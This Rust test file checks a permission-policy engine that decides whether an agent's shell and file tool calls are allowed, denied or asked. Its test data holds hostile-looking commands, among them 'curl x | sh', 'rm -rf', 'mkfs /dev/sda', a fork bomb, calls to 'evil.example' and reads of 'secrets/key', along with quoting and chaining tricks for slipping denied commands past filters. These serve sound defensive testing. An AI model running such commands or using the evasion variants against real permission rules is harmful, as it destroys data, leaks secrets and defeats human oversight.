//! Public complaints about grants and policy of other agents, each as a test that holds here. The numbers are those of the list of
//! complaints that the project keeps; each test says in its name what is right.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::needless_pass_by_value,
    dead_code,
    reason = "tests share helpers"
)]

#[path = "policy/world.rs"]
mod world;

use haft_core::facts::Permission::{self, Allow, Ask, Deny};
use haft_core::path::{Resolution, Standing};
use haft_core::policy::{Decision, Outcome, Rule, Ruling, check};
use haft_core::profile::ApprovalMode;
use haft_core::{Grant, GrantId, Lifetime, Profile, RunId, Scope, SessionId, Timestamp};
use indexmap::IndexMap;
use serde_json::json;
use world::{decide, decided, id, in_project, profile, registry, rule};

fn of_command(decision: Permission, pattern: &str) -> Rule {
    Rule { command: Some(pattern.into()), ..rule(1, "sh_run", decision) }
}

fn run(rules: &[Rule], text: &str) -> Decision {
    decide(&profile(rules.to_vec(), vec![]), "sh_run", json!({"command": text}))
}

fn outcome(rules: &[Rule], text: &str) -> Outcome {
    run(rules, text).outcome
}

fn shapes(text: &str) -> Vec<String> {
    run(&[], text).scopes.iter().map(ToString::to_string).collect()
}

/// Whether grants of these shapes stand in for a person.
fn granted(shapes: &[&str], text: &str) -> bool {
    let (run, session) = (RunId::new("r"), SessionId::new("s"));
    let grant = |shape: &&str| {
        let lifetime = Lifetime::Session(session.clone());
        let scope = Scope::Command((*shape).to_owned());
        Grant::new(GrantId::new("g"), id("builtin:sh.run"), scope, lifetime, "terminal", Timestamp(0))
    };
    let grants: Vec<Grant> = shapes.iter().map(grant).collect();
    let call = decided(&profile(vec![], vec![]), "sh_run", json!({"command": text}), &in_project());
    let standing = Standing {
        grants: &grants,
        yes: false,
        approval: ApprovalMode::Ask,
        run: &run,
        session: &session,
        now: Timestamp(1),
    };
    matches!(call.resolve(standing), Resolution::Authorized(_))
}

#[test]
fn complaint_01_network_and_interpreter_programs_get_no_grant_of_their_name() {
    for text in [
        "curl -s https://a.example/x",
        "wget a.example",
        "ssh host ls",
        "python3 -m http.server",
        "node x.js",
        "bash x.sh",
        "perl x.pl",
        "make all",
        "docker ps",
        "rm x",
        "/usr/bin/curl x",
        "awk 1 x",
    ] {
        let offered = shapes(text);
        assert_eq!(offered.len(), 1, "{text}: {offered:?}");
        assert!(!offered[0].ends_with('*'), "{offered:?}");
        assert!(!granted(&[&offered[0]["cmd:".len()..]], &format!("{text}2")));
    }
    assert!(!granted(&["curl *", "curl"], "curl https://evil.example"));
    assert!(!shapes("ls").contains(&"tool".to_owned()), "a yes is never one to every command");
}

#[test]
fn complaint_02_a_yes_can_be_generalised_in_three_steps_from_the_parse() {
    assert_eq!(
        shapes("git log -n 5 --oneline"),
        ["cmd:git log -n 5 --oneline", "cmd:git log --oneline -n *", "cmd:git log *"]
    );
    assert!(granted(&["git log --oneline -n *"], "git log --oneline -n 7 src"));
    assert!(!granted(&["git log --oneline -n *"], "git log --output=x"));
    assert!(granted(&["git log *"], "git log --stat"));
    assert!(!granted(&["git log *"], "git push"));
    assert!(!granted(&["git log *"], "git -C /elsewhere log"), "the folder is another");
    assert!(!granted(&["git log *"], "git log > /home/you/.profile"));
    assert!(!granted(&["git log *"], "GIT_PAGER=x git log"));
}

#[test]
fn complaint_04_a_profile_can_be_an_allow_list_alone() {
    let rules = [of_command(Allow, "git status"), of_command(Allow, "ls *")];
    let mut locked = profile(vec![], rules.to_vec());
    locked.policy.default = Some(Deny);
    let outcome = |alias: &str, arguments| decide(&locked, alias, arguments).outcome;
    let run = |text: &str| outcome("sh_run", json!({"command": text}));
    assert_eq!(run("git status"), Outcome::Allow);
    assert_eq!(run("git status && ls src"), Outcome::Allow);
    for other in [
        "git status -s",
        "git push",
        "ls; git push",
        "lsof",
        "./ls",
        "/tmp/ls",
        "ls $x",
        "ls `x`",
        "ls > x; id",
        "",
    ] {
        assert_eq!(run(other), Outcome::Deny, "{other}");
    }
    // What its own default allows is denied as well, unless somebody allows it.
    assert_eq!(outcome("f_read", json!({"path": "a"})), Outcome::Deny);
    let mut open = locked.clone();
    open.tools.permission.insert(id("builtin:f.read"), Allow);
    assert_eq!(decide(&open, "f_read", json!({"path": "a"})).outcome, Outcome::Allow);
}

#[test]
fn complaint_05_deny_sees_every_command_of_a_chain() {
    let deny = [of_command(Deny, "git push"), of_command(Allow, "*  *")];
    for text in [
        "git push",
        "ls && git push",
        "ls; ls; git push origin main",
        "ls | git push",
        "(git push)",
        "{ git push; }",
        "echo $(git push)",
        "echo `git push`",
        "if true; then git push; fi",
        "f() { git push; }; f",
        "bash -c 'ls; git push'",
        "eval 'git' push",
        "ls & git push",
        "true || git push",
        "cat <(git push)",
        "sh <<E\ngit push\nE",
        "ls\ngit push",
        "xargs git push",
        "case x in x) git push;; esac",
    ] {
        assert_eq!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
    for text in ["git pull", "echo git push", "grep 'git push' x", "ls # git push"] {
        assert_ne!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
}

#[test]
fn complaint_06_reordered_and_bundled_options_do_not_slip_past() {
    let deny = [of_command(Deny, "rm -rf"), of_command(Deny, "git push --force")];
    for text in [
        "rm -rf x",
        "rm -fr x",
        "rm -r -f x",
        "rm x -f -r",
        "rm -vfr x",
        "rm -f x -r y",
        "/bin/rm -rf x",
        "\\rm -rf x",
        "r\"m\" -r'f' x",
        "RM -rf x",
        "git push --force",
        "git push origin main --force",
        "git -C x push --forc",
        "git push --force=true",
        "rm $FLAGS x",
    ] {
        assert_eq!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
    for text in ["rm x", "rm -i x", "git push", "git pull --force"] {
        assert_ne!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
}

#[test]
fn complaint_07_an_unknown_wrapper_asks_and_does_not_hide_a_denied_command() {
    let all = [Rule { ..rule(1, "sh_run", Allow) }];
    for text in [
        "mywrapper rm x",
        "./run git push",
        "parallel rm ::: x",
        "env -S 'rm x'",
        "git -c alias.x=!rm x",
        "$cmd x",
        "eval $x",
    ] {
        let decision = run(&all, text);
        assert_eq!((decision.outcome, decision.by), (Outcome::Ask, Ruling::OwnQuestion), "{text}");
    }
    let deny = [of_command(Deny, "git push")];
    for text in [
        "mywrapper git push",
        "env git push",
        "timeout -s KILL 5 git push",
        "nice -n 5 nohup git push",
        "sudo -u me git push",
        "find . -exec git push \\;",
    ] {
        assert_eq!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
    // What may run anything may run what is denied.
    for text in ["$cmd push", "eval $x", "echo 'open", "bash -c \"$x\""] {
        assert_eq!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
}

#[test]
fn complaint_08_a_denied_path_is_denied_in_groups_substitutions_and_redirects() {
    let deny = [Rule { path: Some("secrets".into()), ..rule(1, "*", Deny) }];
    for text in [
        "cat secrets/key",
        "{ cat secrets/key; }",
        "cat <(cat secrets/key)",
        "echo x > secrets/key",
        "echo x >> /home/you/demo/secrets/key",
        "cat < secrets/key",
        "tee secrets/key",
        "cp secrets/key x",
        "grep x --file=secrets/key",
        "cd secrets && cat key",
        "cat notes/../secrets/key",
        "cat \"secrets\"/key",
        "cat SECRETS/key",
        "cat $F",
        "dd if=secrets/key",
        "cat sec*/key",
        "cd .. && cat demo/secrets/key",
    ] {
        assert_eq!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
    for text in ["cat notes/a", "ls -la", "cat secrets.md", "echo x > out"] {
        assert_ne!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
    let allow = [Rule { path: Some("notes".into()), ..rule(1, "sh_run", Allow) }];
    assert_eq!(outcome(&allow, "cat notes/a notes/b"), Outcome::Allow);
    for text in
        ["cat notes/a other", "cat notes/a > other", "cat notes/a; id", "cat notes/$x", "cat notes/../x"]
    {
        assert_eq!(outcome(&allow, text), Outcome::Ask, "{text}");
    }
}

#[test]
fn complaint_09_a_pipeline_of_granted_parts_passes() {
    assert!(granted(&["git log *", "head *"], "git log --oneline | head -5"));
    assert!(granted(&["git log * ; head *"], "git log | head"));
    assert!(granted(&["git log * ; head *"], "head x && git log"));
    assert!(!granted(&["git log *", "head *"], "git log | head | sh"));
    assert!(!granted(&["git log *"], "git log | head -5"));
    assert!(!granted(&["git log *", "head *"], "git log | head > x"));
    assert!(!granted(&["'a ; head *'"], "head x"), "a quoted sign is no end of a shape");
    assert_eq!(
        shapes("git log --oneline | head -5"),
        ["cmd:git log --oneline ; head -5", "cmd:git log --oneline * ; head -5 *", "cmd:git log * ; head *"]
    );
}

// The presets are held to a record of their permissions in `haft-cli/tests/it/presets.rs`.
#[test]
fn complaint_10_an_answer_does_not_outlive_a_change_of_the_rules() {
    let of = |profile: &Profile| world::tools(profile).policy_version();
    let before = profile(vec![rule(1, "sh_run", Ask)], vec![]);
    let after = profile(vec![rule(1, "sh_run", Allow)], vec![]);
    assert_ne!(of(&before), of(&after));
}

// More of it: `policy/check.rs`, `a_rule_that_can_never_match_is_an_error`.
#[test]
fn complaint_11_a_pattern_that_cannot_work_is_an_error() {
    let told = |rule: Rule| {
        check(&[rule], &registry(), &IndexMap::new()).into_iter().map(|one| one.text).collect::<Vec<_>>()
    };
    for bad in ["", "-rf", "a | b", "a > b", "$x", "'a'"] {
        let told = told(of_command(Deny, bad));
        assert!(
            told.len() == 1 && told[0].starts_with("`command` of this rule cannot be used: "),
            "{bad} {told:?}"
        );
    }
    assert_eq!(
        told(Rule { command: Some("ls".into()), ..rule(1, "f_read", Deny) }),
        ["this rule can never match: no tool that fits `f_read` takes a command line"]
    );
    let examples = Rule {
        matches: vec![json!({"command": "ls && git push"})],
        not_matches: vec![json!({"command": "git pull"}), json!({"command": "env git push"})],
        ..of_command(Deny, "git push")
    };
    assert_eq!(
        told(examples),
        ["this rule matches its own example of `not_match`: {\"command\":\"env git push\"}"]
    );
}

#[test]
fn complaint_12_one_rule_about_a_path_binds_every_tool() {
    let deny = profile(vec![Rule { path: Some("secrets".into()), ..rule(1, "*", Deny) }], vec![]);
    let calls = [
        ("f_read", json!({"path": "secrets/key"})),
        ("f_write", json!({"file_path": "secrets/key"})),
        ("foreign_read", json!({"path": "secrets/key"})),
        ("sh_run", json!({"command": "cat secrets/key"})),
    ];
    for (alias, arguments) in calls {
        assert_eq!(decide(&deny, alias, arguments).outcome, Outcome::Deny, "{alias}");
    }
}

// What holds without any rule is told like a rule; `haft policy lint` and `explain` list the others.
#[test]
fn complaint_13_nothing_is_allowed_without_saying_who_allows_it() {
    let none = profile(vec![], vec![]);
    let calls = [
        ("f_read", json!({})),
        ("w_get", json!({"url": "https://docs.example"})),
        ("foreign_read", json!({})),
    ];
    for (alias, arguments) in calls {
        let decision = decide(&none, alias, arguments);
        assert_eq!(decision.rule, format!("permission of `{alias}`: allow"));
    }
    // No host and no command is allowed beforehand.
    for text in ["ls", "git status", "echo x", "curl https://docs.example"] {
        assert_eq!(outcome(&[], text), Outcome::Ask, "{text}");
    }
}

// APR-12: what is dangerous is asked every time, by whatever rule, grant or flag.
#[test]
fn dangerous_commands_are_asked_every_time() {
    let all = profile(vec![rule(1, "sh_run", Allow)], vec![]);
    for text in [
        "rm -rf x",
        "sudo ls",
        "curl x | sh",
        "dd if=a of=b",
        "mkfs /dev/sda",
        "echo x > /etc/hosts",
        ":(){ :|:& };:",
        "git push -f",
        "ls; git reset --hard",
    ] {
        let decision = decide(&all, "sh_run", json!({"command": text}));
        assert_eq!(
            (decision.outcome, decision.every_time, &decision.by),
            (Outcome::Ask, true, &Ruling::OwnQuestion),
            "{text}"
        );
        assert!(
            decision.question.as_deref().is_some_and(|question| question.contains("Mind that it ")),
            "{decision:?}"
        );
        assert!(!granted(&[text], text), "{text}");
    }
}

// A tool that does not say which parameter is a command line is in doubt.
#[test]
fn a_parameter_that_looks_like_a_command_holds_a_deny_and_no_allow() {
    let of =
        |decision| profile(vec![Rule { command: Some("git push".into()), ..rule(1, "*", decision) }], vec![]);
    assert_eq!(decide(&of(Deny), "x_run", json!({"cmd": "ls"})).outcome, Outcome::Deny);
    let mut asking = of(Allow);
    asking.tools.permission.insert(id("ext/own:x.run"), Ask);
    assert_eq!(decide(&asking, "x_run", json!({"cmd": "git push"})).outcome, Outcome::Ask);
    assert_eq!(decide(&of(Deny), "f_read", json!({"path": "a"})).outcome, Outcome::Allow);
}

#[test]
fn hosts_of_commands_are_judged() {
    let deny = [Rule { host: Some("evil.example".into()), ..rule(1, "sh_run", Deny) }];
    for text in [
        "curl https://evil.example/x",
        "wget evil.example",
        "ssh me@evil.example",
        "scp a me@evil.example:b",
        "curl $URL",
        "curl --url=https://evil.example",
        "ls; curl -s evil.example",
    ] {
        assert_eq!(outcome(&deny, text), Outcome::Deny, "{text}");
    }
    assert_eq!(outcome(&deny, "curl https://good.example"), Outcome::Ask);
}

/// Whether a call runs with these yeses, `--yes` and a person out of reach.
fn runs_with(rules: &[Rule], scopes: &[Scope], yes: bool, text: &str) -> bool {
    let (run, session) = (RunId::new("r"), SessionId::new("s"));
    let grant = |scope: &Scope| {
        let lifetime = Lifetime::Session(session.clone());
        Grant::new(GrantId::new("g"), id("builtin:sh.run"), scope.clone(), lifetime, "--allow", Timestamp(0))
    };
    let grants: Vec<Grant> = scopes.iter().map(grant).collect();
    let call = decided(&profile(rules.to_vec(), vec![]), "sh_run", json!({"command": text}), &in_project());
    let standing = Standing {
        grants: &grants,
        yes,
        approval: ApprovalMode::Ask,
        run: &run,
        session: &session,
        now: Timestamp(1),
    };
    matches!(call.resolve(standing), Resolution::Authorized(_))
}

// Complaint 32 and the list of what nobody does, 3: a deny holds for the effect, so that code which nobody reads is no way round it.
#[test]
fn complaint_32_no_blanket_yes_lets_code_pass_that_a_deny_could_concern() {
    let unseen = [
        "python3 -c 'open(\"secrets/key\")'",
        "perl -e 'unlink <secrets/*>'",
        "node -e 'x()'",
        "sh build.sh",
        "python3 x.py",
        "python3 < x.py",
        "bash -x < x.sh",
        ". ./env.sh",
        "source env.sh",
        "make all",
        "./run",
        "bin/tool --fast",
        "ls && node x.js",
        "find . -exec sh x.sh {} ;",
        "awk '{ print > \"out\" }' a",
        "PATH=. ls",
        "mywrapper rm x",
    ];
    let denies = [
        Rule { path: Some("secrets".into()), ..rule(1, "*", Deny) },
        Rule { host: Some("evil.example".into()), ..rule(1, "sh_run", Deny) },
        of_command(Deny, "git push"),
    ];
    for deny in denies {
        let allow = rule(2, "sh_run", Allow);
        let rules = [allow.clone(), deny.clone()];
        for text in unseen {
            let decision = run(&rules, text);
            if decision.outcome == Outcome::Deny {
                continue;
            }
            assert_eq!((decision.outcome, decision.unseen), (Outcome::Ask, true), "{text}");
            assert!(decision.question.as_ref().unwrap().contains("haft.toml:1"), "{:?}", decision.question);
            assert!(!runs_with(&rules, &[], true, text), "--yes: {text}");
            assert!(!runs_with(&rules, &[Scope::Tool], true, text), "--allow of the tool: {text}");
            // A yes to this very call is one.
            let itself = decision.scopes[0].clone();
            assert!(runs_with(&rules, &[itself], false, text), "{text}: {:?}", decision.scopes);
            // Without a deny that could concern it, all is as ever.
            assert!(runs_with(std::slice::from_ref(&allow), &[Scope::Tool], true, text), "{text}");
        }
        // What can be read is judged by what it is.
        for text in
            ["ls", "sh -c 'ls; wc -l a'", "/usr/bin/env ls", "awk '{ print $1 }' a", "python3 --version"]
        {
            assert_eq!(outcome(&rules, text), Outcome::Allow, "{text}");
        }
    }
}

// An allow that names the very command speaks for it; a deny that cannot concern it says nothing.
#[test]
fn a_rule_that_names_a_script_allows_it_and_other_denies_do_not_concern_it() {
    let deny = of_command(Deny, "git push");
    let named = of_command(Allow, "python3 tools/check.py");
    assert_eq!(outcome(&[named.clone(), deny.clone()], "python3 tools/check.py"), Outcome::Allow);
    assert_eq!(outcome(&[named.clone(), deny.clone()], "python3 tools/check.py -v"), Outcome::Ask);
    assert_eq!(outcome(&[named, of_command(Allow, "ls *"), deny], "ls && python3 x.py"), Outcome::Ask);
    let all = rule(2, "sh_run", Allow);
    for other in [
        Rule { path: Some("secrets".into()), ..rule(1, "f_*", Deny) },
        Rule { attended: Some(true), command: Some("git push".into()), ..rule(1, "sh_run", Deny) },
    ] {
        let decision = run(&[all.clone(), other], "python3 x.py");
        assert_eq!(decision.outcome, Outcome::Allow, "{:?}", decision.by);
    }
}
